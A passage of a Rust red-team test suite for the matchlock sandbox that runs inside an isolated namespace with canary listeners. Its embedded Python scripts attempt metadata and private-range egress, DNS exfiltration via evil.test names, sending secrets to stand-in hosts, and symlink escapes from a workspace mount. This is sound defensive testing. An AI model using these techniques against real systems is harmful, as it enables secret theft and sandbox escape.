@@ -1,0 +1,1013 @@
+//! The red team: the attacks a hostile agent inside a sandbox (or a hostile earlier run) would
+//! try, each against the real `matchlock` binary booting real VMs.
+//!
+//! The whole run happens in a network namespace this program creates. Canary listeners sit on
+//! the addresses a sandbox must never reach (private ranges, link-local metadata, CGNAT, the
+//! host's loopback behind the gateway), on a DNS resolver and on HTTP upstreams; an attack has
+//! leaked when a canary saw its marker, a secret's value, a changed host file, or a process
+//! outlived what it should. Every attack also carries a control (a variant that must get
+//! through, or must be seen), so a broken canary fails the run instead of passing it.
+//!
+//! It has its own `main` (no libtest) so that the namespace is entered before any thread exists,
+//! and so the figures can be printed once at the end: attacks tried, blocked, leaked
+//! (recorded in docs/security.md). Needs root (namespaces, canaries on privileged ports).
+//! `cargo test --test security [NAME...]` runs all attacks or those whose name contains NAME.
+
+#[path = "common/mod.rs"]
+mod common;
+
+use common::*;
+use std::io::{Read, Write};
+use std::net::{SocketAddr, TcpListener, UdpSocket};
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::path::Path;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+/// Addresses the canaries listen on inside the namespace. A sandbox reaches none of them
+/// unless a test opens one with `--allow-private-host` (only [`OPENED`]).
+const BLOCKED: &[&str] = &[
+    "10.0.0.1",
+    "172.16.0.1",
+    "192.168.1.1",
+    "169.254.169.254",
+    "100.64.0.1",
+];
+/// The canary resolver (operator-chosen with `--dns-servers`, so reachable for DNS only).
+const RESOLVER: &str = "10.53.0.53";
+/// An upstream a test opens on purpose: the control that proves the canaries see traffic.
+const OPENED: &str = "10.9.9.9";
+/// A second opened upstream that echoes what it was sent back in every way a response can.
+const ECHO: &str = "10.9.9.10";
+/// The host-loopback port a guest might try to reach through its gateway.
+const LOOPBACK_PORT: u16 = 18080;
+
+/// What the canaries saw: (where, bytes).
+type Hits = Arc<Mutex<Vec<(String, Vec<u8>)>>>;
+
+/// One line of the figures.
+struct Row {
+    attack: String,
+    tried: usize,
+    leaked: Vec<String>,
+}
+
+fn main() {
+    let args: Vec<String> = std::env::args().skip(1).collect();
+    if args.iter().any(|a| a == "--list") {
+        for (name, _) in ATTACKS {
+            println!("{name}: test");
+        }
+        return;
+    }
+    let filters: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
+    // SAFETY: geteuid has no preconditions.
+    if unsafe { libc::geteuid() } != 0 {
+        eprintln!("red team: needs root (it creates a network namespace and canaries)");
+        std::process::exit(1);
+    }
+    enter_namespace();
+    let hits: Hits = Arc::default();
+    start_canaries(&hits);
+    let started = Instant::now();
+    let mut rows = Vec::new();
+    let mut broken = Vec::new();
+    for (name, attack) in ATTACKS {
+        if !filters.is_empty() && !filters.iter().any(|f| name.contains(f.as_str())) {
+            continue;
+        }
+        eprintln!("red team: {name} ...");
+        let t = Instant::now();
+        match std::panic::catch_unwind(|| attack(&hits)) {
+            Ok(r) => {
+                for row in &r {
+                    eprintln!(
+                        "red team: {name}: {} {} tried, {} leaked ({:.1} s)",
+                        row.attack,
+                        row.tried,
+                        row.leaked.len(),
+                        t.elapsed().as_secs_f64()
+                    );
+                }
+                rows.extend(r);
+            }
+            Err(_) => broken.push(*name),
+        }
+    }
+    print_figures(&rows, started.elapsed());
+    let leaked: usize = rows.iter().map(|r| r.leaked.len()).sum();
+    if leaked > 0 || !broken.is_empty() {
+        if !broken.is_empty() {
+            println!("attacks that could not be judged (their control failed): {broken:?}");
+        }
+        std::process::exit(1);
+    }
+}
+
+fn print_figures(rows: &[Row], took: Duration) {
+    println!();
+    println!("{:<44} {:>6} {:>8} {:>7}", "attack", "tried", "blocked", "leaked");
+    for r in rows {
+        println!(
+            "{:<44} {:>6} {:>8} {:>7}",
+            r.attack,
+            r.tried,
+            r.tried - r.leaked.len(),
+            r.leaked.len()
+        );
+        for l in &r.leaked {
+            println!("    LEAKED: {l}");
+        }
+    }
+    let tried: usize = rows.iter().map(|r| r.tried).sum();
+    let leaked: usize = rows.iter().map(|r| r.leaked.len()).sum();
+    println!(
+        "red team: {} attacks, {tried} variants tried, {} blocked, {leaked} leaked ({:.0} s)",
+        rows.len(),
+        tried - leaked,
+        took.as_secs_f64()
+    );
+}
+
+/// Moves this (still single-threaded) process into a fresh network namespace whose loopback
+/// holds every canary address: nothing sent here can leave it.
+fn enter_namespace() {
+    // SAFETY: unshare has no memory-safety preconditions; no other thread exists yet.
+    if unsafe { libc::unshare(libc::CLONE_NEWNET) } != 0 {
+        panic!("unshare(CLONE_NEWNET): {}", std::io::Error::last_os_error());
+    }
+    let ip = |args: &[&str]| {
+        let st = std::process::Command::new("ip").args(args).status();
+        assert!(
+            st.as_ref().is_ok_and(|s| s.success()),
+            "ip {args:?}: {st:?} (iproute2 is needed)"
+        );
+    };
+    ip(&["link", "set", "lo", "up"]);
+    // On the namespace's own loopback: no module needed, and nothing routes anywhere else.
+    for a in BLOCKED.iter().chain(&[RESOLVER, OPENED, ECHO]) {
+        ip(&["addr", "add", &format!("{a}/32"), "dev", "lo"]);
+    }
+}
+
+/// TCP canaries on every blocked address (80, 443, 22) and the host's loopback, UDP canaries
+/// (53, 123) on the blocked addresses, the DNS canary and the two opened HTTP upstreams.
+fn start_canaries(hits: &Hits) {
+    for a in BLOCKED {
+        for port in [80, 443, 22] {
+            tcp_canary(format!("{a}:{port}").parse().unwrap(), hits, None);
+        }
+        for port in [53, 123] {
+            udp_canary(format!("{a}:{port}").parse().unwrap(), hits);
+        }
+    }
+    tcp_canary(
+        format!("127.0.0.1:{LOOPBACK_PORT}").parse().unwrap(),
+        hits,
+        None,
+    );
+    dns_canary(hits);
+    tcp_canary(format!("{OPENED}:80").parse().unwrap(), hits, None);
+    tcp_canary(format!("{ECHO}:80").parse().unwrap(), hits, Some(echo_response));
+}
+
+/// Accepts on `addr`, records the first bytes of each connection, answers with `respond`
+/// (or a plain 200).
+fn tcp_canary(addr: SocketAddr, hits: &Hits, respond: Option<fn(&[u8]) -> Vec<u8>>) {
+    let l = TcpListener::bind(addr).unwrap_or_else(|e| panic!("canary {addr}: {e}"));
+    let hits = hits.clone();
+    std::thread::spawn(move || {
+        for c in l.incoming().flatten() {
+            let hits = hits.clone();
+            std::thread::spawn(move || {
+                let mut c = c;
+                let _ = c.set_read_timeout(Some(Duration::from_millis(700)));
+                let mut got = Vec::new();
+                let mut buf = [0u8; 8192];
+                while let Ok(n) = c.read(&mut buf) {
+                    if n == 0 {
+                        break;
+                    }
+                    got.extend_from_slice(&buf[..n]);
+                    if complete_request(&got) {
+                        break;
+                    }
+                }
+                hits.lock().unwrap().push((addr.to_string(), got.clone()));
+                let resp = match respond {
+                    Some(f) => f(&got),
+                    None => b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\ncanary\n"
+                        .to_vec(),
+                };
+                let _ = c.write_all(&resp);
+            });
+        }
+    });
+}
+
+/// Whether `got` holds a whole HTTP request (head, and a Content-Length body if any).
+fn complete_request(got: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(got);
+    let Some(end) = text.find("\r\n\r\n") else {
+        return false;
+    };
+    let len = text[..end]
+        .lines()
+        .find_map(|l| {
+            let (k, v) = l.split_once(':')?;
+            k.eq_ignore_ascii_case("content-length")
+                .then(|| v.trim().parse::<usize>().ok())?
+        })
+        .unwrap_or(0);
+    if text[..end].to_ascii_lowercase().contains("transfer-encoding: chunked") {
+        return text.ends_with("0\r\n\r\n");
+    }
+    got.len() >= end + 4 + len
+}
+
+fn udp_canary(addr: SocketAddr, hits: &Hits) {
+    let s = UdpSocket::bind(addr).unwrap_or_else(|e| panic!("canary {addr}: {e}"));
+    let hits = hits.clone();
+    std::thread::spawn(move || {
+        let mut buf = [0u8; 4096];
+        while let Ok((n, _)) = s.recv_from(&mut buf) {
+            hits.lock().unwrap().push((addr.to_string(), buf[..n].to_vec()));
+        }
+    });
+}
+
+/// A resolver that records every datagram and answers A queries with a blocked address (so a
+/// name it answers is also a DNS-rebinding attempt).
+fn dns_canary(hits: &Hits) {
+    let addr: SocketAddr = format!("{RESOLVER}:53").parse().unwrap();
+    let s = UdpSocket::bind(addr).unwrap();
+    let hits = hits.clone();
+    std::thread::spawn(move || {
+        let mut buf = [0u8; 4096];
+        while let Ok((n, from)) = s.recv_from(&mut buf) {
+            let q = buf[..n].to_vec();
+            hits.lock().unwrap().push((addr.to_string(), q.clone()));
+            if n < 12 {
+                continue;
+            }
+            // Echo the question, set QR/RA, one A answer (10.0.0.1) by a pointer to it.
+            let mut r = q[..12].to_vec();
+            r[2] |= 0x80;
+            r[3] = 0x80;
+            r[6..12].copy_from_slice(&[0, 1, 0, 0, 0, 0]);
+            let mut i = 12;
+            while i < n && q[i] != 0 {
+                i += q[i] as usize + 1;
+            }
+            let end = (i + 5).min(n);
+            r.extend_from_slice(&q[12..end]);
+            r.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 30, 0, 4, 10, 0, 0, 1]);
+            let _ = s.send_to(&r, from);
+        }
+    });
+}
+
+/// The echo upstream's answers: the `Authorization` it got, back in the reason phrase, a
+/// header, trailers, a gzip or deflate body, a plain body, or under a coding matchlock cannot
+/// decode.
+fn echo_response(req: &[u8]) -> Vec<u8> {
+    let text = String::from_utf8_lossy(req);
+    let path = text.split(' ').nth(1).unwrap_or("/").to_string();
+    let auth = text
+        .lines()
+        .find_map(|l| {
+            let (k, v) = l.split_once(':')?;
+            k.eq_ignore_ascii_case("authorization")
+                .then(|| v.trim().to_string())
+        })
+        .unwrap_or_default();
+    let with_body = |headers: &str, body: &[u8]| {
+        let mut r = format!(
+            "HTTP/1.1 200 OK\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n",
+            body.len()
+        )
+        .into_bytes();
+        r.extend_from_slice(body);
+        r
+    };
+    let compress = |deflate: bool| {
+        let data = format!("echo {auth}");
+        if deflate {
+            let mut e =
+                flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+            e.write_all(data.as_bytes()).unwrap();
+            e.finish().unwrap()
+        } else {
+            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+            e.write_all(data.as_bytes()).unwrap();
+            e.finish().unwrap()
+        }
+    };
+    match path.as_str() {
+        "/reason" => format!("HTTP/1.1 200 {auth}\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
+            .into_bytes(),
+        "/header" => with_body(&format!("X-Echo: {auth}\r\n"), b"ok"),
+        "/trailers" => format!(
+            "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\n\
+             Connection: close\r\n\r\n2\r\nok\r\n0\r\nX-Echo: {auth}\r\n\r\n"
+        )
+        .into_bytes(),
+        "/gzip" => with_body("Content-Encoding: gzip\r\n", &compress(false)),
+        "/deflate" => with_body("Content-Encoding: deflate\r\n", &compress(true)),
+        "/br" => with_body(
+            "Content-Encoding: br\r\n",
+            format!("echo {auth}").as_bytes(),
+        ),
+        _ => with_body("", format!("echo {auth}").as_bytes()),
+    }
+}
+
+/// The canary hits that contain `needle` (case-insensitive), as "where: first bytes".
+fn hits_with(hits: &Hits, needle: &str) -> Vec<String> {
+    let needle = needle.to_ascii_lowercase();
+    hits.lock()
+        .unwrap()
+        .iter()
+        .filter(|(_, b)| {
+            String::from_utf8_lossy(b)
+                .to_ascii_lowercase()
+                .contains(&needle)
+        })
+        .map(|(w, b)| format!("{w}: {:?}", String::from_utf8_lossy(&b[..b.len().min(120)])))
+        .collect()
+}
+
+/// Runs `python3 -c script` in a fresh sandbox with `flags`; returns its stdout (asserting it
+/// ran: a script that never ran would make every attack look blocked).
+fn python(flags: &[&str], script: &str) -> String {
+    let mut args = vec!["run", "--image", python_image()];
+    args.extend_from_slice(flags);
+    args.extend_from_slice(&["--", "python3", "-c", script]);
+    let out = run(&args);
+    let text = stdout(&out);
+    assert!(
+        out.status.success() && text.contains("SCRIPT-DONE"),
+        "the attack script did not run: {:?}\nstdout: {text}\nstderr: {}",
+        out.status,
+        stderr(&out)
+    );
+    text
+}
+
+// ---------------------------------------------------------------------------------------------
+// The attacks.
+
+type Attack = fn(&Hits) -> Vec<Row>;
+
+const ATTACKS: &[(&str, Attack)] = &[
+    ("egress", egress),
+    ("dns_exfiltration", dns_exfiltration),
+    ("secrets_on_the_wire", secrets_on_the_wire),
+    ("secrets_in_process_state", secrets_in_process_state),
+    ("workspace_symlinks_across_runs", workspace_symlinks_across_runs),
+    ("set_id_bits_and_owners", set_id_bits_and_owners),
+    ("devices_and_kernel_log", devices_and_kernel_log),
+    ("broken_pipe", broken_pipe),
+    ("host_side_leftovers", host_side_leftovers),
+];
+
+/// Connects (TCP) or sends (UDP) a marker to each target, in parallel; targets are
+/// `[proto, host, port, marker]`, host `GW` being the guest's gateway.
+const PROBE: &str = r#"
+import json, socket, struct, threading
+gw = None
+for line in open('/proc/net/route').read().splitlines()[1:]:
+    f = line.split()
+    if f[1] == '00000000':
+        gw = socket.inet_ntoa(struct.pack('<L', int(f[2], 16)))
+out = {}
+def probe(proto, host, port, marker):
+    host = gw if host == 'GW' else host
+    try:
+        if proto == 'udp':
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s.sendto(marker.encode(), (host, port))
+            out[marker] = 'sent'
+            return
+        s = socket.create_connection((host, port), timeout=4)
+        s.sendall(('GET /' + marker + ' HTTP/1.1\r\nHost: ' + host + '\r\nX-M: ' + marker + '\r\n\r\n').encode())
+        s.settimeout(4)
+        out[marker] = s.recv(200).decode(errors='replace')
+    except Exception as e:
+        out[marker] = repr(e)
+ts = [threading.Thread(target=probe, args=t) for t in json.loads('@@TARGETS@@')]
+[t.start() for t in ts]
+[t.join() for t in ts]
+print(json.dumps(out))
+print('SCRIPT-DONE')
+"#;
+
+/// Reaching what the policy blocks: every private range, link-local metadata, CGNAT and the
+/// host's loopback behind the gateway, by TCP and UDP, with and without interception, and
+/// through a resolver that answers with a blocked address (DNS rebinding).
+fn egress(hits: &Hits) -> Vec<Row> {
+    let mut rows = Vec::new();
+    for (mode, flags) in [
+        ("default", vec!["--allow-private-host", OPENED]),
+        (
+            "intercepting",
+            vec![
+                "--allow-host",
+                "open.test,*.rebind.test",
+                "--add-host",
+                "open.test:10.9.9.9",
+                "--allow-private-host",
+                OPENED,
+                "--dns-servers",
+                RESOLVER,
+            ],
+        ),
+    ] {
+        let mut targets = Vec::new();
+        let mut n = 0;
+        let mut mark = |t: &mut Vec<(String, String, u16, String)>, proto: &str, host: &str, port| {
+            n += 1;
+            let m = format!("mlrt-egress-{mode}-{n:03}");
+            t.push((proto.to_string(), host.to_string(), port, m.clone()));
+            m
+        };
+        for a in BLOCKED {
+            for port in [80, 443, 22] {
+                mark(&mut targets, "tcp", a, port);
+            }
+            mark(&mut targets, "udp", a, 53);
+            mark(&mut targets, "udp", a, 123);
+        }
+        mark(&mut targets, "tcp", "GW", LOOPBACK_PORT);
+        // A name the canary resolver answers with 10.0.0.1 (rebinding), then the address.
+        if mode == "intercepting" {
+            mark(&mut targets, "tcp", "x.rebind.test", 80);
+        }
+        // The control: the opened upstream, by the name interception allows.
+        let opened = if mode == "intercepting" { "open.test" } else { OPENED };
+        let control = mark(&mut targets, "tcp", opened, 80);
+        let json = serde_json::to_string(
+            &targets
+                .iter()
+                .map(|(p, h, port, m)| serde_json::json!([p, h, port, m]))
+                .collect::<Vec<_>>(),
+        )
+        .unwrap();
+        let out = python(&flags, &PROBE.replace("@@TARGETS@@", &json));
+        std::thread::sleep(Duration::from_millis(800));
+        assert!(
+            !hits_with(hits, &control).is_empty(),
+            "egress {mode}: the control never reached its canary: {out}"
+        );
+        let mut leaked = Vec::new();
+        for (_, h, port, m) in &targets {
+            if *m != control {
+                leaked.extend(
+                    hits_with(hits, m)
+                        .into_iter()
+                        .map(|x| format!("{h}:{port} {x}")),
+                );
+            }
+        }
+        rows.push(Row {
+            attack: format!("egress to blocked addresses ({mode})"),
+            tried: targets.len() - 1,
+            leaked,
+        });
+    }
+    rows
+}
+
+/// Raw DNS packets the guest builds itself, each smuggling a marker somewhere the one checked
+/// question is not.
+const DNS_ATTACK: &str = r#"
+import json, random, socket, struct
+def name(n):
+    return b''.join(bytes([len(p)]) + p.encode() for p in n.split('.')) + b'\0'
+def packet(flags=0x0100, qs=(), an=(), ns=(), ar=()):
+    h = struct.pack('>HHHHHH', random.randrange(65536), flags, len(qs), len(an), len(ns), len(ar))
+    return h + b''.join(qs) + b''.join(an) + b''.join(ns) + b''.join(ar)
+def q(n, t=1):
+    return name(n) + struct.pack('>HH', t, 1)
+def rr(n, t=1, data=b'\x01\x02\x03\x04'):
+    return name(n) + struct.pack('>HHIH', t, 1, 30, len(data)) + data
+def opt(code, data):
+    o = struct.pack('>HH', code, len(data)) + data
+    return b'\0' + struct.pack('>HHIH', 41, 1232, 0, len(o)) + o
+gw = None
+for line in open('/proc/net/route').read().splitlines()[1:]:
+    f = line.split()
+    if f[1] == '00000000':
+        gw = socket.inet_ntoa(struct.pack('<L', int(f[2], 16)))
+M = '@@M@@'
+attacks = {
+    'control': packet(qs=[q('control-@@M@@.open.test')]),
+    'second question': packet(qs=[q('open.test'), q(M + '-q2.evil.test')]),
+    'answer record': packet(qs=[q('open.test')], an=[rr(M + '-an.evil.test')]),
+    'authority record': packet(qs=[q('open.test')], ns=[rr(M + '-ns.evil.test')]),
+    'additional record': packet(qs=[q('open.test')], ar=[rr(M + '-ar.evil.test')]),
+    'EDNS option': packet(qs=[q('open.test')], ar=[opt(65001, (M + '-opt').encode())]),
+    'UPDATE opcode': packet(flags=0x2800, qs=[q('open.test', 6)], ns=[rr(M + '-upd.open.test')]),
+    'NOTIFY opcode': packet(flags=0x2000, qs=[q(M + '-notify.open.test', 6)]),
+    'name off the list': packet(qs=[q(M + '-off.evil.test')]),
+    'subdomain of an allowed host': packet(qs=[q(M + '-sub.exact.test', 16)]),
+    'zone transfer': packet(qs=[q(M + '-axfr.open.test', 252)]),
+    'CHAOS class': packet(qs=[name(M + '-ch.open.test') + struct.pack('>HH', 16, 3)]),
+    'trailing bytes': packet(qs=[q('open.test')]) + (M + '-trail').encode(),
+}
+out = {}
+for what, p in attacks.items():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(4)
+    s.sendto(p, (gw, 53))
+    try:
+        r = s.recv(2048)
+        out[what] = 'rcode %d' % (r[3] & 15)
+    except Exception as e:
+        out[what] = repr(e)
+print(json.dumps(out))
+print('SCRIPT-DONE')
+"#;
+
+/// DNS exfiltration while intercepting: the resolver may only ever see a query matchlock built.
+fn dns_exfiltration(hits: &Hits) -> Vec<Row> {
+    let marker = "mlrtdnsx";
+    let out = python(
+        &[
+            "--allow-host",
+            "*.open.test,open.test,exact.test",
+            "--dns-servers",
+            RESOLVER,
+        ],
+        &DNS_ATTACK.replace("@@M@@", marker),
+    );
+    std::thread::sleep(Duration::from_millis(800));
+    let seen = hits_with(hits, marker);
+    let control: Vec<_> = seen.iter().filter(|h| h.contains("control-")).collect();
+    assert!(
+        !control.is_empty(),
+        "dns: the control query never reached the resolver: {out}"
+    );
+    let leaked: Vec<String> = seen
+        .iter()
+        .filter(|h| !h.contains("control-"))
+        .cloned()
+        .collect();
+    vec![Row {
+        attack: "DNS exfiltration past the checked question".into(),
+        tried: 12,
+        leaked,
+    }]
+}
+
+/// The secrets attack script: requests that try to get a secret out in clear text or to the
+/// wrong host, then responses that try to bring the real value back into the guest.
+const SECRET_ATTACK: &str = r#"
+import base64, json, os, socket
+K, H = os.environ['K'], os.environ['H']
+def raw(host, ip, req):
+    s = socket.create_connection((ip, 80), timeout=10)
+    s.sendall(req.encode())
+    s.settimeout(10)
+    data = b''
+    while True:
+        try:
+            c = s.recv(65536)
+        except Exception:
+            break
+        if not c:
+            break
+        data += c
+    return data.decode(errors='replace')
+def get(host, path, headers='', body=None, chunks=None):
+    req = 'GET ' + path + ' HTTP/1.1\r\nHost: ' + host + '\r\nConnection: close\r\n' + headers
+    if body is not None:
+        req = req.replace('GET', 'POST', 1) + 'Content-Length: %d\r\n\r\n' % len(body) + body
+    elif chunks is not None:
+        req = req.replace('GET', 'POST', 1) + 'Transfer-Encoding: chunked\r\n\r\n'
+        req += ''.join('%x\r\n%s\r\n' % (len(c), c) for c in chunks) + '0\r\n\r\n'
+    else:
+        req += '\r\n'
+    return raw(host, socket.gethostbyname(host), req)
+out = {'K': K, 'H': H}
+basic = base64.b64encode(('user:' + K).encode()).decode()
+out['control'] = get('api.test', '/control', 'Authorization: Bearer ' + H + '\r\n')
+out['cleartext header'] = get('api.test', '/clear', 'Authorization: Bearer ' + K + '\r\n')
+out['cleartext query'] = get('api.test', '/clear?key=' + K)
+out['other host header'] = get('other.test', '/h', 'X-Key: ' + K + '\r\n')
+out['other host basic'] = get('other.test', '/b', 'Authorization: Basic ' + basic + '\r\n')
+out['other host query'] = get('other.test', '/q?k=' + K)
+out['other host path'] = get('other.test', '/p/' + K)
+out['other host body'] = get('other.test', '/body', body='{"k": "' + K + '"}')
+out['other host chunked body'] = get('other.test', '/chunked', chunks=['x' * 10 + K[:9], K[9:] + 'y'])
+out['other host http secret'] = get('other.test', '/hb', body='{"k": "' + H + '"}')
+hb = base64.b64encode(('user:' + H).encode()).decode()
+for path in ['/reason', '/header', '/trailers', '/gzip', '/deflate', '/plain', '/br']:
+    out['echo ' + path] = get('echo.test', path, 'Authorization: Bearer ' + H + '\r\nTE: trailers\r\nAccept-Encoding: gzip, deflate, br\r\n')
+out['echo basic'] = get('echo.test', '/plain', 'Authorization: Basic ' + hb + '\r\n')
+print(json.dumps(out))
+print('SCRIPT-DONE')
+"#;
+
+/// The real secret leaving where it must not (clear text, other hosts, anywhere in a request)
+/// and coming back into the guest (reason phrase, headers, trailers, compressed bodies, the
+/// base64 credential the proxy built).
+fn secrets_on_the_wire(hits: &Hits) -> Vec<Row> {
+    const K: &str = "mlrt-real-k-3141592653";
+    const H: &str = "mlrt-real-h-2718281828";
+    let k = format!("K={K}@api.test");
+    let h = format!("H={H}@api.test,echo.test");
+    let out = python(
+        &[
+            "--allow-host",
+            "api.test,other.test,echo.test",
+            "--add-host",
+            "api.test:10.9.9.9",
+            "--add-host",
+            "other.test:10.9.9.9",
+            "--add-host",
+            "echo.test:10.9.9.10",
+            "--allow-private-host",
+            OPENED,
+            "--allow-private-host",
+            ECHO,
+            "--secret",
+            &k,
+            "--secret",
+            &h,
+            "--secret-over-http",
+            "H",
+        ],
+        SECRET_ATTACK,
+    );
+    std::thread::sleep(Duration::from_millis(500));
+    let v: serde_json::Value = serde_json::from_str(out.lines().next().unwrap_or("")).unwrap();
+    let (k_ph, h_ph) = (v["K"].as_str().unwrap(), v["H"].as_str().unwrap());
+    assert!(k_ph.starts_with("SANDBOX_SECRET_") && h_ph.starts_with("SANDBOX_SECRET_"));
+    // The control: H (allowed in clear text to api.test) reached it as the real value.
+    let control = hits_with(hits, "GET /control");
+    assert!(
+        control.iter().any(|c| c.contains(H)),
+        "secrets: the control injection never arrived: {control:?}\n{out}"
+    );
+    let requests = hits.lock().unwrap().clone();
+    let mut out_leaks = Vec::new();
+    let outgoing = [
+        "cleartext header",
+        "cleartext query",
+        "other host header",
+        "other host basic",
+        "other host query",
+        "other host path",
+        "other host body",
+        "other host chunked body",
+        "other host http secret",
+    ];
+    use base64::Engine;
+    let b64 = base64::engine::general_purpose::STANDARD;
+    let k_basic = b64.encode(format!("user:{K}"));
+    let kph_basic = b64.encode(format!("user:{k_ph}"));
+    for (w, bytes) in &requests {
+        let text = String::from_utf8_lossy(bytes);
+        let to_other = text.to_ascii_lowercase().contains("host: other.test");
+        let carries_k = [K, k_ph, &k_basic, &kph_basic]
+            .iter()
+            .any(|n| text.contains(n));
+        let carries_h_elsewhere = to_other && (text.contains(H) || text.contains(h_ph));
+        if carries_k || carries_h_elsewhere {
+            out_leaks.push(format!("{w}: {}", &text[..text.len().min(160)]));
+        }
+    }
+    for what in &outgoing[..2] {
+        let answer = v[what].as_str().unwrap_or("");
+        if !answer.starts_with("HTTP/1.1 403") {
+            out_leaks.push(format!("{what}: not refused: {answer}"));
+        }
+    }
+    let mut back_leaks = Vec::new();
+    let h_basic = b64.encode(format!("user:{H}"));
+    let echoes: Vec<&str> = v
+        .as_object()
+        .unwrap()
+        .keys()
+        .filter(|k| k.starts_with("echo"))
+        .map(|k| k.as_str())
+        .collect();
+    for what in &echoes {
+        let answer = v[what].as_str().unwrap_or("");
+        if answer.contains(H) || answer.contains(&h_basic) {
+            back_leaks.push(format!("{what}: {answer}"));
+        }
+        if *what == "echo /br" && !answer.starts_with("HTTP/1.1 502") {
+            back_leaks.push(format!("{what}: an undecodable body was passed on: {answer}"));
+        }
+    }
+    // Scrubbed, not dropped: the placeholder comes back where the value was.
+    let gz = v["echo /gzip"].as_str().unwrap_or("");
+    assert!(gz.contains(&format!("echo Bearer {h_ph}")), "gzip: {gz}");
+    vec![
+        Row {
+            attack: "secret out in clear text or to another host".into(),
+            tried: outgoing.len(),
+            leaked: out_leaks,
+        },
+        Row {
+            attack: "real secret back into the guest".into(),
+            tried: echoes.len(),
+            leaked: back_leaks,
+        },
+    ]
+}
+
+/// Secrets in process state: a detached sandbox's supervisor and QEMU must hold no value in
+/// their environment or arguments, whichever way the value was given.
+fn secrets_in_process_state(_: &Hits) -> Vec<Row> {
+    const FROM_ENV: &str = "mlrt-env-value-1618033988";
+    const FROM_FILE: &str = "mlrt-file-value-1414213562";
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("secrets.env");
+    std::fs::write(&file, format!("# test\nFILE_KEY={FROM_FILE}\n")).unwrap();
+    let out = ml(&[
+        "run",
+        "-d",
+        "--image",
+        BUSYBOX,
+        "--allow-host",
+        "api.test",
+        "--secret",
+        "ENV_KEY@api.test",
+        "--secret-file",
+        file.to_str().unwrap(),
+        "--secret",
+        "FILE_KEY@api.test",
+        "--",
+        "sleep",
+        "600",
+    ])
+    .env("ENV_KEY", FROM_ENV)
+    .output()
+    .unwrap();
+    let id = ok(out).trim().to_string();
+    let me = std::process::id().to_string();
+    let mut leaked = Vec::new();
+    let mut seen_sandbox = 0;
+    for ent in std::fs::read_dir("/proc").unwrap().flatten() {
+        let pid = ent.file_name().to_string_lossy().to_string();
+        if pid.parse::<u32>().is_err() || pid == me {
+            continue;
+        }
+        let cmdline = std::fs::read(ent.path().join("cmdline")).unwrap_or_default();
+        let environ = std::fs::read(ent.path().join("environ")).unwrap_or_default();
+        if String::from_utf8_lossy(&cmdline).contains(&id) {
+            seen_sandbox += 1;
+        }
+        for (what, blob) in [("cmdline", &cmdline), ("environ", &environ)] {
+            let text = String::from_utf8_lossy(blob);
+            for v in [FROM_ENV, FROM_FILE] {
+                if text.contains(v) {
+                    leaked.push(format!("pid {pid} {what} holds {v}"));
+                }
+            }
+        }
+    }
+    let _ = run(&["kill", &id]);
+    let _ = run(&["rm", &id]);
+    assert!(
+        seen_sandbox >= 2,
+        "process state: found {seen_sandbox} processes of {id}"
+    );
+    vec![Row {
+        attack: "secret values in /proc environ and cmdline".into(),
+        tried: 4,
+        leaked,
+    }]
+}
+
+/// A guest that had `ws/` mounted plants symlinks there; later runs name paths inside `ws/`
+/// as mount or disk sources (the README's pattern) and must not follow them out.
+fn workspace_symlinks_across_runs(_: &Hits) -> Vec<Row> {
+    let root = tempfile::tempdir().unwrap();
+    let ws = root.path().join("ws");
+    let outside = root.path().join("outside");
+    std::fs::create_dir_all(ws.join("data")).unwrap();
+    std::fs::create_dir_all(ws.join("sub/inner")).unwrap();
+    std::fs::create_dir_all(&outside).unwrap();
+    std::fs::write(ws.join("cfg.json"), "{}").unwrap();
+    std::fs::write(outside.join("host-secret"), "host only\n").unwrap();
+    // An ext4 image outside ws that a planted `ws/disk.img` link would attach read-write.
+    let img = outside.join("other.img");
+    std::fs::File::create(&img)
+        .unwrap()
+        .set_len(32 << 20)
+        .unwrap();
+    let st = std::process::Command::new("mkfs.ext4")
+        .args(["-q", "-F"])
+        .arg(&img)
+        .status()
+        .unwrap();
+    assert!(st.success());
+    let o = outside.display().to_string();
+    let plant = format!(
+        "set -e; cd /w; rm -rf data sub; ln -s {o} data; ln -sf {o}/host-secret cfg.json; \
+         ln -s {o} sub; ln -s {o}/other.img disk.img; echo PLANTED"
+    );
+    let spec = format!("{}:/w:host_fs", ws.display());
+    let first = run(&["run", "--image", BUSYBOX, "-v", &spec, "--", "sh", "-c", &plant]);
+    assert!(stdout(&first).contains("PLANTED"), "{}", stderr(&first));
+    let w = ws.display().to_string();
+    let later: Vec<Vec<String>> = vec![
+        vec!["-v".into(), format!("{w}/data:/data:host_fs")],
+        vec!["-v".into(), format!("{w}/cfg.json:/cfg.json:ro")],
+        vec!["-v".into(), format!("{w}/sub/inner:/x:host_fs")],
+        vec!["-v".into(), format!("{w}/data:/data")],
+        vec!["--disk".into(), format!("{w}/disk.img:/mnt")],
+    ];
+    let before = std::fs::read(outside.join("host-secret")).unwrap();
+    let mut leaked = Vec::new();
+    for flags in &later {
+        let mut args = vec!["run", "--image", BUSYBOX];
+        args.extend(flags.iter().map(String::as_str));
+        args.extend_from_slice(&[
+            "--",
+            "sh",
+            "-c",
+            "cat /cfg.json /data/host-secret 2>/dev/null; echo pwn > /data/planted 2>/dev/null; ls /x /mnt 2>/dev/null; echo RAN",
+        ]);
+        let o = run(&args);
+        if o.status.success() || stdout(&o).contains("RAN") {
+            leaked.push(format!("{flags:?} ran: {}", stdout(&o)));
+        } else if !stderr(&o).contains("symlink") {
+            leaked.push(format!("{flags:?} failed, but not for the symlink: {}", stderr(&o)));
+        }
+    }
+    if std::fs::read(outside.join("host-secret")).unwrap() != before
+        || outside.join("planted").exists()
